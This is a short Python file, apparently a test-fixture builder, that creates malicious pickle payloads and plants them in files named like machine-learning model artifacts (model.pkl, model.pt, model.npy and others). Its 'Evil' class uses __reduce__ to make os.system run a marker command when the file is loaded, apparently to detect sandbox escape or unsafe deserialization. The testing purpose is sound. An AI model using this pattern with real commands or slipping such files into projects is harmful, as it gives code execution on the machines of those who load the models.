import io
import pickle

import numpy as np


class Evil:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def build(make):
    evil = Evil(make.text("touch @@OUTSIDE@@/@@MARK@@ /tmp/@@MARK@@; echo changed > @@CANARY@@"))
    array = io.BytesIO()
    np.save(array, np.array([evil], dtype=object), allow_pickle=True)
    names = ("model.pkl", "model.joblib", "model.pt", "model.h5", "out/best.txt", "raw/numbers.txt", "mlruns/0/model/model.pkl")
    return make.with_files({f"tool/{name}": pickle.dumps(evil) for name in names} | {"tool/model.npy": array.getvalue()})
